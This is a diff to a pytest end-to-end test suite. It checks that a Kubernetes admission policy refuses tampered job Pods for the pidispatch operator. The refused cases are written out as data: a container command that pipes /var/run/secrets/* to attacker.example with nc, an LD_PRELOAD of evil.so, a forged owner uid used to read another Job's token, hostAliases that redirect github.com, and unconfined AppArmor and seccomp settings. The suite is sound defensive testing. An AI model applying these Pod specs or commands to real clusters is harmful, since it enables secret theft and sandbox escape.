@@ -12,6 +12,7 @@ Secret the policy does not allow failing its Job ``PodRefused``.
 from __future__ import annotations
 
 import copy
+import json
 import uuid
 from collections.abc import Callable, Iterator
 from pathlib import Path
@@ -22,9 +23,10 @@ import pytest
 from e2e.chartinstall import FULLNAME, RELEASE, fresh_namespace, helm, install
 from e2e.cluster import Cluster
 from e2e.kube import ApiError, Kube
+from pidispatch.api.models import JobSpec, TriggerSpec
 from pidispatch.contract import CONTAINER
-from pidispatch.forge.credentials import token_secret_name
-from pidispatch.manifests.pod import PodInputs, WorkspaceInputs, job_pod
+from pidispatch.jobflow.pod import pod_env
+from pidispatch.manifests.pod import PodInputs, WorkspaceInputs, job_pod, token_secret_name
 from pidispatch.store.staging import session_subpath
 from testkit.wait import wait_until
 
@@ -35,7 +37,16 @@ TOKEN_SECRET = "gh-token"  # github.token.secretName
 MODEL_SECRET = "model-keys"  # job.credentials
 RUN_SECRET = "deploy-keys"  # jobPodPolicy.credentialSecrets: what a Trigger's run.secrets may name
 CA_CONFIGMAP = "forge-ca"
+JOB_IMAGE = "ghcr.io/pi-dispatch/job:test"  # job.image
+TRIGGER_IMAGE = "registry.example/team/job:1"  # jobPodPolicy.images: what a Trigger's run.image may name
+JOB_COMMAND = ["pidispatch", "runner"]  # job.command (the chart's default)
+JOB_ENV = {"PI_OFFLINE": "1"}  # job.env
 POLICY_DENIED = "denied request"
+RUNTIME_CLASSES = "/apis/node.k8s.io/v1/runtimeclasses"
+# Every event and run fact the operator's jobflow/pod.py writes (each optional one set), as it writes them.
+OPERATOR_ENV = pod_env("job-1", JobSpec(trigger="t", forge="github", repository="acme/widgets", issue=1, pullRequest=2),
+                       TriggerSpec.model_validate({"on": {"event": "issue_comment.created", "phrase": "@pi"}, "run": {
+                           "model": "m", "piVersion": "1", "flow": "f", "command": "/c"}}))
 
 
 @pytest.fixture(scope="module")
@@ -46,11 +57,15 @@ def namespace(cluster: Cluster, kube: Kube, tmp_path_factory: pytest.TempPathFac
         install(cluster, home, ns, "--set", "github.authSource=pat", "--set", f"github.token.secretName={TOKEN_SECRET}",
                 "--set", f"github.caBundle.configMap={CA_CONFIGMAP}",
                 "--set-json", f'job.credentials={{"OPENAI_API_KEY":{{"secretName":"{MODEL_SECRET}","key":"k"}}}}',
-                "--set", f"jobPodPolicy.credentialSecrets[0]={RUN_SECRET}")
+                "--set", f"jobPodPolicy.credentialSecrets[0]={RUN_SECRET}", "--set", f"job.image={JOB_IMAGE}",
+                "--set", f"jobPodPolicy.images[0]={TRIGGER_IMAGE}", "--set-json", f"job.env={json.dumps(JOB_ENV)}")
         # The apiserver loads a new policy asynchronously (within a second or so): wait until it holds.
         wait_until("the policy in force", lambda: refuses(cluster, ns), timeout=30)
+        # A RuntimeClass that exists (the apiserver refuses a Pod naming one that does not before any policy).
+        kube.create(RUNTIME_CLASSES, {"metadata": {"name": f"{ns}-runc"}, "handler": "runc"})
         yield ns
     finally:
+        kube.delete_ignore_missing(f"{RUNTIME_CLASSES}/{ns}-runc")
         helm(cluster, home, "uninstall", RELEASE, "--namespace", ns, check=False)
         kube.delete_ignore_missing(f"/api/v1/namespaces/{ns}")
 
@@ -77,9 +92,11 @@ def refuses(cluster: Cluster, namespace: str) -> bool:
 def job_shaped(namespace: str, uid: str, **extra: Any) -> dict[str, Any]:
     """The operator's own job Pod manifest: token Secret, model key, CA bundle, session mount, size limit."""
     return job_pod(PodInputs(
-        job_name=f"job-{uid[:8]}", job_uid=uid, namespace=namespace, image="ghcr.io/pi-dispatch/job:test",
-        command=["pidispatch", "runner"], staging_claim=STAGING, session_subpath=session_subpath(uid),
-        github_token=(token_secret_name(uid), "token"), credentials={"OPENAI_API_KEY": (MODEL_SECRET, "k")},
+        job_name=f"job-{uid[:8]}", job_uid=uid, namespace=namespace, image=JOB_IMAGE,
+        command=JOB_COMMAND, env={**JOB_ENV, **OPERATOR_ENV}, staging_claim=STAGING,
+        session_subpath=session_subpath(uid),
+        github_token=(token_secret_name(f"job-{uid[:8]}", uid), "token"),
+        credentials={"OPENAI_API_KEY": (MODEL_SECRET, "k")},
         resources={"requests": {"ephemeral-storage": "2Gi"}, "limits": {"ephemeral-storage": "12Gi"}},
         workspace=WorkspaceInputs(ca_bundle_configmap=CA_CONFIGMAP), workspace_size_limit=("10Gi", 10 * 2**30),
         release=RELEASE, **extra))
@@ -105,7 +122,27 @@ def _other_secret_env(pod: dict[str, Any]) -> None:
 
 def _another_jobs_token(pod: dict[str, Any]) -> None:
     container(pod)["env"].append({"name": "STOLEN", "valueFrom": {
-        "secretKeyRef": {"name": token_secret_name(str(uuid.uuid4())), "key": "token"}}})
+        "secretKeyRef": {"name": token_secret_name("other", str(uuid.uuid4())), "key": "token"}}})
+
+
+def _claimed_owner(pod: dict[str, Any]) -> None:
+    """The finding: an ownerReference is whatever its maker writes. This Pod names another (live) Job's uid as its
+    owner and reads that Job's token Secret; the Secret is named after that Job's Pod, which this one is not."""
+    victim = str(uuid.uuid4())
+    pod["metadata"]["ownerReferences"][0]["uid"] = victim
+    # The staged session's subPath follows the claimed uid, and the policy admits it: see docs/security.md.
+    [mount] = [m for m in container(pod)["volumeMounts"] if m["name"] == "session"]
+    mount["subPath"] = session_subpath(victim)
+    [token] = [e for e in container(pod)["env"] if e["name"] == "GH_TOKEN"]
+    token["valueFrom"]["secretKeyRef"]["name"] = token_secret_name("victim", victim)
+
+
+def _made_up_uid(pod: dict[str, Any]) -> None:  # not a uid the apiserver makes
+    pod["metadata"]["ownerReferences"][0]["uid"] = "made-up"
+
+
+def _not_named_after_its_job(pod: dict[str, Any]) -> None:
+    pod["metadata"]["name"] = "pij-someone-else"
 
 
 def _secret_volume(pod: dict[str, Any]) -> None:
@@ -163,6 +200,101 @@ def _host_network(pod: dict[str, Any]) -> None:
     pod["spec"]["hostNetwork"] = True
 
 
+def _other_image(pod: dict[str, Any]) -> None:
+    container(pod)["image"] = "registry.example/any/image:1"
+
+
+def _other_command(pod: dict[str, Any]) -> None:
+    container(pod)["command"] = ["sh", "-c", "cat /var/run/secrets/* | nc attacker.example 80"]
+
+
+def _args(pod: dict[str, Any]) -> None:
+    container(pod)["args"] = ["--anything"]
+
+
+def _exec_probe(pod: dict[str, Any]) -> None:  # a command the kubelet runs in the container
+    container(pod)["livenessProbe"] = {"exec": {"command": ["sh", "-c", "id"]}}
+
+
+def _lifecycle_hook(pod: dict[str, Any]) -> None:
+    container(pod)["lifecycle"] = {"postStart": {"exec": {"command": ["sh", "-c", "id"]}}}
+
+
+def _second_container(pod: dict[str, Any]) -> None:
+    pod["spec"]["containers"].append({**copy.deepcopy(container(pod)), "name": "sidecar"})
+
+
+def _node_name(pod: dict[str, Any]) -> None:
+    pod["spec"]["nodeName"] = "some-node"
+
+
+def _other_service_account(pod: dict[str, Any]) -> None:
+    pod["spec"]["serviceAccountName"] = FULLNAME
+
+
+def _runtime_class(pod: dict[str, Any]) -> None:  # one without the sandbox job.runtimeClassName would give
+    pod["spec"]["runtimeClassName"] = f"{pod['metadata']['namespace']}-runc"
+
+
+def _system_priority(pod: dict[str, Any]) -> None:  # preempts what keeps the cluster running
+    pod["spec"]["priorityClassName"] = "system-node-critical"
+
+
+def _host_aliases(pod: dict[str, Any]) -> None:  # the forge's name to another address
+    pod["spec"]["hostAliases"] = [{"ip": "192.0.2.1", "hostnames": ["github.com", "api.github.com"]}]
+
+
+def _dns_config(pod: dict[str, Any]) -> None:
+    pod["spec"]["dnsPolicy"] = "None"
+    pod["spec"]["dnsConfig"] = {"nameservers": ["192.0.2.53"]}
+
+
+def _selinux(pod: dict[str, Any]) -> None:
+    container(pod)["securityContext"]["seLinuxOptions"] = {"type": "spc_t"}
+
+
+def _pod_selinux(pod: dict[str, Any]) -> None:
+    pod["spec"]["securityContext"]["seLinuxOptions"] = {"type": "spc_t"}
+
+
+def _apparmor_unconfined(pod: dict[str, Any]) -> None:
+    container(pod)["securityContext"]["appArmorProfile"] = {"type": "Unconfined"}
+
+
+def _pod_apparmor_unconfined(pod: dict[str, Any]) -> None:
+    pod["spec"]["securityContext"]["appArmorProfile"] = {"type": "Unconfined"}
+
+
+def _apparmor_annotation(pod: dict[str, Any]) -> None:
+    pod["metadata"]["annotations"] = {f"container.apparmor.security.beta.kubernetes.io/{CONTAINER}": "unconfined"}
+
+
+def _pod_seccomp_unconfined(pod: dict[str, Any]) -> None:
+    pod["spec"]["securityContext"]["seccompProfile"] = {"type": "Unconfined"}
+
+
+def _sysctl(pod: dict[str, Any]) -> None:
+    pod["spec"]["securityContext"]["sysctls"] = [{"name": "kernel.shm_rmid_forced", "value": "0"}]
+
+
+def _unmasked_proc(pod: dict[str, Any]) -> None:  # in a user namespace (the apiserver allows it only there)
+    pod["spec"]["hostUsers"] = False
+    container(pod)["securityContext"]["procMount"] = "Unmasked"
+
+
+def _literal_env(pod: dict[str, Any]) -> None:  # a name the operator never sets: the loader's, say
+    container(pod)["env"].append({"name": "LD_PRELOAD", "value": "/workspace/evil.so"})
+
+
+def _field_ref_env(pod: dict[str, Any]) -> None:
+    container(pod)["env"].append({"name": "NODE", "valueFrom": {"fieldRef": {"fieldPath": "spec.nodeName"}}})
+
+
+def _secret_env_without_its_volume_source(pod: dict[str, Any]) -> None:  # a projected token: not a volume we allow
+    pod["spec"]["volumes"].append({"name": "t", "projected": {"sources": [
+        {"serviceAccountToken": {"path": "token", "audience": "https://kubernetes.default.svc"}}]}})
+
+
 REFUSED: list[tuple[str, Callable[[dict[str, Any]], None], str]] = [
     ("a hostPath volume", _host_path, "no hostPath"),
     ("the host's network", _host_network, "no hostPath, host network"),
@@ -180,6 +312,33 @@ REFUSED: list[tuple[str, Callable[[dict[str, Any]], None], str]] = [
     ("the store claim", _other_claim, "mounts only emptyDirs"),
     ("a ServiceAccount token", _service_account_token, "no ServiceAccount token"),
     ("no Job owning it", _no_owner, "only job Pods"),
+    ("another Job's uid as its owner, reading that Job's token", _claimed_owner, "reads only its own token Secret"),
+    ("an owner uid of no apiserver's shape", _made_up_uid, "only job Pods"),
+    ("a name not its Job's", _not_named_after_its_job, "named after its Job"),
+    # Issue 40: what the job container runs, where, and as what.
+    ("another image", _other_image, "runs only the job image"),
+    ("another command", _other_command, "runs only the job image"),
+    ("arguments", _args, "runs only the job image"),
+    ("an exec probe", _exec_probe, "runs only the job image"),
+    ("a lifecycle hook", _lifecycle_hook, "runs only the job image"),
+    ("a second container", _second_container, "runs only the job image"),
+    ("a nodeName", _node_name, "no nodeName"),
+    ("another runtime class", _runtime_class, "runs with job.runtimeClassName"),
+    ("a system priority class", _system_priority, "runs with job.runtimeClassName"),
+    ("host aliases", _host_aliases, "resolves names by the cluster's DNS"),
+    ("its own DNS", _dns_config, "resolves names by the cluster's DNS"),
+    ("another ServiceAccount", _other_service_account, "no ServiceAccount token"),
+    ("a container SELinux type", _selinux, "no SELinux options"),
+    ("a Pod SELinux type", _pod_selinux, "no SELinux options"),
+    ("an unconfined AppArmor profile", _apparmor_unconfined, "no SELinux options"),
+    ("a Pod's unconfined AppArmor profile", _pod_apparmor_unconfined, "no SELinux options"),
+    ("an AppArmor annotation", _apparmor_annotation, "no SELinux options"),
+    ("a Pod's unconfined seccomp profile", _pod_seccomp_unconfined, "no SELinux options"),
+    ("a sysctl", _sysctl, "no SELinux options"),
+    ("an unmasked /proc", _unmasked_proc, "no SELinux options"),
+    ("a literal env name the operator never sets", _literal_env, "literal values only for"),
+    ("an env value from a field", _field_ref_env, "reads only its own token Secret"),
+    ("a projected ServiceAccount token", _secret_env_without_its_volume_source, "mounts only emptyDirs"),
 ]
 
 
@@ -198,16 +357,47 @@ def test_the_operators_job_pod_is_allowed(cluster: Cluster, namespace: str) -> N
     assert {v["name"] for v in created["spec"]["volumes"]} == {"workspace", "ca-bundle", "session"}
 
 
+def test_a_job_pod_with_every_literal_the_operator_writes_is_allowed(cluster: Cluster, namespace: str) -> None:
+    """Issue 40: env values are held to the names the operator writes; this Pod sets each optional one (a
+    checkout, a subject, a moved head, an Enterprise host, a resume, a rethread, run.secrets) and runs the
+    image a Trigger's run.image names (jobPodPolicy.images)."""
+    uid = str(uuid.uuid4())
+    pod = job_pod(PodInputs(
+        job_name="full", job_uid=uid, namespace=namespace, image=TRIGGER_IMAGE, command=JOB_COMMAND,
+        env={**JOB_ENV, **OPERATOR_ENV}, staging_claim=STAGING, session_subpath=session_subpath(uid),
+        host_resume=True, rethread="lineage", github_token=(token_secret_name("full", uid), "token"),
+        credentials={"OPENAI_API_KEY": (MODEL_SECRET, "k")}, run_secrets=(RUN_SECRET,),
+        workspace=WorkspaceInputs(
+            checkout={"url": "https://ghe.example/acme/w.git", "ref": "main", "sha": "0" * 40, "branch": "pi/i-1"},
+            subject={"title": "t", "body": "b"}, previous={"sha": "1" * 40}, gh_host="ghe.example",
+            ca_bundle_configmap=CA_CONFIGMAP),
+        workspace_size_limit=("10Gi", 10 * 2**30), release=RELEASE))
+    names = {e["name"] for e in container(pod)["env"]}
+    assert {"PI_CHECKOUT", "PI_SUBJECT", "PI_PREVIOUS_COMMIT", "GH_HOST", "GH_ENTERPRISE_TOKEN", "PI_SESSION_RETHREAD",
+            "PI_RUN_SECRETS", "PI_FLOW", "PI_COMMAND", "PI_OFFLINE"} <= names, names
+    create(operator_client(cluster, namespace), pod)
+
+
+def test_a_job_pod_of_a_long_job_name_reads_its_own_token_secret(cluster: Cluster, namespace: str) -> None:
+    """A Job name too long for ``pij-<name>`` gives a cut and hashed Pod name (manifests/pod.py pod_name); its
+    token Secret is named after that, and the policy admits it by the Pod's own name."""
+    uid, name = str(uuid.uuid4()), "long-" + "x" * 90
+    pod = job_pod(PodInputs(job_name=name, job_uid=uid, namespace=namespace, image=JOB_IMAGE, command=JOB_COMMAND,
+                            github_token=(token_secret_name(name, uid), "token")))
+    assert pod["metadata"]["name"] != f"pij-{name}"
+    create(operator_client(cluster, namespace), pod)
+
+
 def test_a_job_pod_without_a_session_or_checkout_is_allowed(cluster: Cluster, namespace: str) -> None:
     uid = str(uuid.uuid4())
-    pod = job_pod(PodInputs(job_name="plain", job_uid=uid, namespace=namespace, image="job:test",
-                            command=["pidispatch", "runner"]))
+    pod = job_pod(PodInputs(job_name="plain", job_uid=uid, namespace=namespace, image=JOB_IMAGE,
+                            command=JOB_COMMAND))
     create(operator_client(cluster, namespace), pod)
 
 
 def test_a_job_pod_mounting_the_listed_run_secret_is_allowed(cluster: Cluster, namespace: str) -> None:
-    pod = job_pod(PodInputs(job_name="keyed", job_uid=str(uuid.uuid4()), namespace=namespace, image="job:test",
-                            command=["pidispatch", "runner"], run_secrets=(RUN_SECRET,)))
+    pod = job_pod(PodInputs(job_name="keyed", job_uid=str(uuid.uuid4()), namespace=namespace, image=JOB_IMAGE,
+                            command=JOB_COMMAND, run_secrets=(RUN_SECRET,)))
     created = create(operator_client(cluster, namespace), pod)
     assert {"name": "run-secret-0", "secret": {"secretName": RUN_SECRET, "defaultMode": 0o440}} in created["spec"][
         "volumes"]
@@ -215,8 +405,8 @@ def test_a_job_pod_mounting_the_listed_run_secret_is_allowed(cluster: Cluster, n
 
 @pytest.mark.parametrize("secret", [MODEL_SECRET, "unlisted"], ids=["a chart Secret not listed", "any other"])
 def test_a_job_pod_mounting_a_secret_not_listed_is_refused(cluster: Cluster, namespace: str, secret: str) -> None:
-    pod = job_pod(PodInputs(job_name="keyed", job_uid=str(uuid.uuid4()), namespace=namespace, image="job:test",
-                            command=["pidispatch", "runner"], run_secrets=(secret,)))
+    pod = job_pod(PodInputs(job_name="keyed", job_uid=str(uuid.uuid4()), namespace=namespace, image=JOB_IMAGE,
+                            command=JOB_COMMAND, run_secrets=(secret,)))
     with pytest.raises(ApiError) as refused:
         create(operator_client(cluster, namespace), pod)
     assert refused.value.status in (403, 422) and "the Secrets of jobPodPolicy.credentialSecrets (deploy-keys" in (
